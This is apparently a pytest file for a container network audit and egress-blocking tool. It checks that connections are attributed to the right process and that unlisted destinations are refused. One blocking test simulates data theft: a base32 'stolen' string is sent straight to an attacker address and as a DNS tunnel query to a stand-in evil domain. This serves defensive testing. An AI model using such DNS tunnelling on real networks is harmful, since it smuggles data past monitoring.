"""Process attribution and blocking for a container on the same host, live.

The lab's container (cicd_audit.lab, `Lab.add_container()`) has a network
namespace of its own, routed (no NAT) through the client namespace, where the
recorder runs with TC on the client's uplink veth only, and its processes sit
in a child of the lab's cgroup, the one the recorder's socket hooks are on.
Its packets reach TC without their socket, so the process comes from the flow
join: sock_ops for TCP, sendmsg for unconnected UDP, and for connected UDP
(dig, glibc's resolver) the per-connect fentry hook where the kernel runs it,
else the cgroup_skb egress program at the first packet (this host's kernel
refuses fentry programs; the kernel matrix's `udp` check covers that hook).
Attribution is also checked with TC on the container's veth end instead,
where its packets are ingress.

Every client runs through `announced()`, which prints its name and pid and
then execs it, so each row's process is checked against the real pid.
"""

from __future__ import annotations

import shlex
import sys
from pathlib import Path

import pytest

from cicd_audit.lab import DNS_NAME, HTTP_PORT, OTHER_V4, OTHER_V6, V4, V6
from cicd_audit.recorder.attach import udp_connect_hooks
from cicd_audit.zeeklog.reader import read_log

pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]

POLICY = "allowed:\n  domains: [www.example.test, \"*.cdn.example.test\"]\n"
UDP_PORT = 9999
PYTHON = Path(sys.executable)


def announced(name: str, argv: list[str]) -> list[str]:
    """argv, after printing "<name> <pid>": the shell execs it, so the pid is argv's."""
    return ["sh", "-c", f'echo {name} $$; exec "$@"', "sh", *argv]


# Clients that stay alive a moment after their exchange, so that the recorder reads
# their executable from /proc, symlinks resolved, as these tests expect it; one
# already gone is named by the exec hooks as exec was given it (the venv's python
# symlink), which test_block_live checks on its own.
HTTP_GET = """
import http.client, socket, sys, time
name, host, port, family = sys.argv[1:]
started = time.monotonic()
info = socket.getaddrinfo(host, int(port), {"4": socket.AF_INET, "6": socket.AF_INET6}[family], socket.SOCK_STREAM)
s = socket.socket(*info[0][:3])
s.settimeout(5)
resolved = time.monotonic()
s.connect(info[0][4])
connected = time.monotonic()
conn = http.client.HTTPConnection(host, int(port))
conn.sock = s
conn.request("GET", "/")
response = conn.getresponse()
response.read()                  # all of it: closing with unread data would reset the connection
status = response.status
conn.close()
print(f"{name}= {status} {connected - resolved:.6f} {connected - started:.6f}", flush=True)
time.sleep(0.2)
"""
DNS_QUERY = """
import socket, struct, sys, time
name, server, qname = sys.argv[1:]
labels = b"".join(bytes([len(label)]) + label.encode() for label in qname.split("."))
query = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((server, 53))          # connected UDP, as glibc's resolver and dig use it
s.send(query)
s.settimeout(5)
rcode = s.recv(512)[3] & 0xF
print(f"{name}=", {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}.get(rcode, rcode), flush=True)
time.sleep(0.2)
"""


def python_processes(pids: dict[str, int], cgroup: str) -> dict[str, tuple]:
    """{name: process_of() of the rows made by the announced Python client of that name, in cgroup}."""
    return {name: (pid, PYTHON.name, str(PYTHON.resolve()), cgroup) for name, pid in pids.items()}


def http_get(name: str, host: str, family: str = "4") -> list[str]:
    """Resolve host (glibc), connect, GET /: prints "<name>= <status> <connect s> <resolve+connect s>"."""
    return [str(PYTHON), "-c", HTTP_GET, name, host, str(HTTP_PORT), family]


def dns_query(name: str, qname: str) -> list[str]:
    """An A query to dnsmasq on a connected UDP socket: prints "<name>= <rcode name>"."""
    return [str(PYTHON), "-c", DNS_QUERY, name, V4[1], qname]


RAW_ATTEMPT = """
import errno, socket, sys, time
name, proto, host, port, payload = sys.argv[1:]
family = socket.AF_INET6 if ":" in host else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM)
started = time.monotonic()
try:
    if proto == "tcp":
        s.connect((host, int(port)))
    else:
        s.sendto(payload.encode(), (host, int(port)))
    outcome = "sent"
except OSError as exc:
    outcome = errno.errorcode.get(exc.errno, str(exc.errno))
print(f"{name}= {outcome} {time.monotonic() - started:.6f}", flush=True)
time.sleep(0.2)     # alive while the recorder reads /proc/<pid>/exe
"""


def raw_attempt(name: str, proto: str, host: str, port: int, payload: str = "") -> list[str]:
    """Python connecting (tcp) or sending (udp) to host:port, printing "<name>= <errno name|sent> <seconds>"."""
    return [str(PYTHON), "-c", RAW_ATTEMPT, name, proto, host, str(port), payload]


def in_container(container, name: str, argv: list[str]) -> str:
    """A shell command running argv in the container, announced as name."""
    return shlex.join(container.cmd(announced(name, argv)))


def parse_output(stdout: str) -> tuple[dict[str, int], dict[str, list[str]]]:
    """({name: pid} from announcements, {name: fields} from "<name>= ..." lines)."""
    pids, results = {}, {}
    for line in stdout.splitlines():
        fields = line.split()
        if len(fields) >= 2 and fields[0].endswith("="):
            results[fields[0][:-1]] = fields[1:]
        elif len(fields) == 2 and fields[1].isdigit():
            pids[fields[0]] = int(fields[1])
    return pids, results


def rows(out: Path, path: str) -> list[dict]:
    return list(read_log(out / f"{path}.log")[1])


def process_of(row: dict) -> tuple:
    return row["proc.pid"], row["proc.name"], row["proc.exe"], row["proc.cgroup"]


@pytest.fixture
def container(lab):
    return lab.add_container()


@pytest.fixture
def policy(tmp_path) -> Path:
    p = tmp_path / "policy.yml"
    p.write_text(POLICY)
    return p


def container_cgroup(lab, container) -> str:
    return f"/{lab.cgroup.name}/{container.cgroup.name}"


@pytest.mark.parametrize("where", ["uplink", "container veth"])
def test_container_connections_name_their_process(lab, container, tmp_path, where):
    """TCP (IPv4, IPv6), connected UDP (a DNS query) and unconnected UDP (sendto) from
    the container: each conn.log row names the container's process and cgroup, with TC
    on the client's uplink (the container's packets leave through it: egress) or on the
    container's veth end in the client namespace (they arrive there: ingress)."""
    sendto = (f"import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
              f"s.sendto(b'x' * 9, ('{V4[1]}', {UDP_PORT})); time.sleep(0.2)")
    script = "; ".join([
        in_container(container, "http4", http_get("http4", V4[1])),
        in_container(container, "http6", http_get("http6", V6[1], "6")),
        in_container(container, "dns", dns_query("dns", DNS_NAME)),
        in_container(container, "sendto", [str(PYTHON), "-c", sendto]),
    ])
    out = tmp_path / "logs"
    r = lab.record(out, ["sh", "-c", script], iface=container.host_if if where == "container veth" else None)
    assert r.returncode == 0, r.stderr
    pids, results = parse_output(r.stdout)
    assert results["http4"][0] == results["http6"][0] == "200", r.stdout
    assert results["dns"] == ["NOERROR"], r.stdout

    ran = python_processes(pids, container_cgroup(lab, container))
    expected = {
        ("tcp", container.v4, V4[1], HTTP_PORT): ran["http4"],
        ("tcp", container.v6, V6[1], HTTP_PORT): ran["http6"],
        ("udp", container.v4, V4[1], 53): ran["dns"],
        ("udp", container.v4, V4[1], UDP_PORT): ran["sendto"],
    }
    conns = [c for c in rows(out, "conn")
             if c["id.orig_h"] in (container.v4, container.v6) and c["proto"] in ("tcp", "udp")]
    seen = {(c["proto"], c["id.orig_h"], c["id.resp_h"], c["id.resp_p"]): process_of(c) for c in conns}
    assert seen == expected
    assert len(conns) == len(expected)

    dns = rows(out, "dns")
    assert [(d["query"], d["qtype_name"], d["answers"], d["id.orig_h"]) for d in dns] == \
        [(DNS_NAME, "A", [V4[1]], container.v4)]
    dns_conn = next(c for c in conns if c["id.resp_p"] == 53)
    assert dns[0]["uid"] == dns_conn["uid"]


def test_container_blocking(lab, container, tmp_path, policy):
    """From the container: an allowed name resolves (glibc) and connects at once; raw
    addresses fail at connect()/sendto() with EPERM; unlisted names are answered NXDOMAIN
    by the recorder and the attacker's DNS server receives nothing; every refusal's notice names the
    container's process."""
    sink = lab.udp_sink(OTHER_V4, 53)
    secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
    script = "; ".join([
        in_container(container, "allowed", http_get("allowed", DNS_NAME, "4")),
        in_container(container, "allowed6", http_get("allowed6", DNS_NAME, "6")),
        in_container(container, "raw", raw_attempt("raw", "tcp", OTHER_V4, HTTP_PORT)),
        in_container(container, "raw6", raw_attempt("raw6", "tcp", OTHER_V6, HTTP_PORT)),
        in_container(container, "direct", raw_attempt("direct", "udp", OTHER_V4, 53, secret)),
        in_container(container, "unlisted", dns_query("unlisted", "evil.example.test")),
        in_container(container, "tunnel", dns_query("tunnel", f"{secret}.t.evil.test")),
    ])
    out = tmp_path / "logs"
    r = lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1])
    assert r.returncode == 0, r.stderr
    pids, results = parse_output(r.stdout)

    for name in ("allowed", "allowed6"):
        code, connect, _ = results[name]
        assert code == "200", r.stdout
        assert float(connect) < 0.5, f"{name}: the first connect to a just-resolved name must pass at once"
    for name in ("raw", "raw6", "direct"):
        outcome, seconds = results[name]
        assert outcome == "EPERM" and float(seconds) < 0.1, f"{name}: must be refused at once: {results[name]}"
    # dnsmasq itself would answer NOERROR (evil.example.test) and REFUSED (*.evil.test): NXDOMAIN is ours.
    assert results["unlisted"] == results["tunnel"] == ["NXDOMAIN"], "unlisted names are answered NXDOMAIN at TC"
    assert sink.stop() == [], "the attacker's DNS server received tunnel data"

    ran = python_processes(pids, container_cgroup(lab, container))
    notices = rows(out, "notice")
    assert sorted((n["note"], n["proto"], n["id.resp_h"], n["id.resp_p"], n["sub"], process_of(n))
                  for n in notices) == sorted([
        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V4, HTTP_PORT, None, ran["raw"]),
        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V6, HTTP_PORT, None, ran["raw6"]),
        ("CicdAudit::Blocked_Connection", "udp", OTHER_V4, 53, None, ran["direct"]),
        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, "evil.example.test", ran["unlisted"]),
        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, f"{secret.lower()}.t.evil.test", ran["tunnel"]),
    ])

    # The allowed connections, and the lookups (glibc, connected UDP) that let them through.
    conns = [c for c in rows(out, "conn") if c["id.orig_h"] in (container.v4, container.v6)]
    web = [c for c in conns if c["id.resp_p"] == HTTP_PORT and c["id.resp_h"] in (V4[1], V6[1])]
    assert sorted((c["id.resp_h"], c["conn_state"], c["blocked"], process_of(c)) for c in web) == sorted([
        (V4[1], "SF", False, ran["allowed"]), (V6[1], "SF", False, ran["allowed6"])])
    lookups = {d["uid"] for d in rows(out, "dns") if d["query"] == DNS_NAME}
    lookup_conns = [c for c in conns if c["uid"] in lookups]
    assert sorted(process_of(c) for c in lookup_conns) == sorted([ran["allowed"], ran["allowed6"]])


@pytest.mark.parametrize("filed", ["as the kernel allows", "per packet"])
def test_a_reconnected_udp_socket_files_each_destination(lab, container, tmp_path, monkeypatch, filed):
    """One UDP socket connected to a port, used, then connected to another: the socket
    hook must file the second flow too (what it filed no longer matches the socket), so
    both conn.log rows name the process; with either hook."""
    if filed == "per packet":
        monkeypatch.setenv(udp_connect_hooks.PER_PACKET_ENV, "1")
    reconnect = (f"import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                 f"for port in ({UDP_PORT}, {UDP_PORT + 1}):\n"
                 f"    s.connect(('{V4[1]}', port)); s.send(b'x' * 5); s.send(b'y' * 5)\n"
                 f"time.sleep(0.2)\n")
    sinks = [lab.udp_sink(V4[1], port) for port in (UDP_PORT, UDP_PORT + 1)]   # no port-unreachable to fail on
    out = tmp_path / "logs"
    r = lab.record(out, ["sh", "-c", in_container(container, "reconnect", [str(PYTHON), "-c", reconnect])])
    assert r.returncode == 0, r.stderr
    pids, _ = parse_output(r.stdout)
    ran = python_processes(pids, container_cgroup(lab, container))
    rows_by_port = {c["id.resp_p"]: c for c in rows(out, "conn") if c["id.orig_h"] == container.v4}
    assert sorted(rows_by_port) == [UDP_PORT, UDP_PORT + 1]
    for port, conn in rows_by_port.items():
        assert conn["orig_pkts"] == 2
        assert process_of(conn) == ran["reconnect"], port
    assert [sink.stop() for sink in sinks] == [[5, 5], [5, 5]]
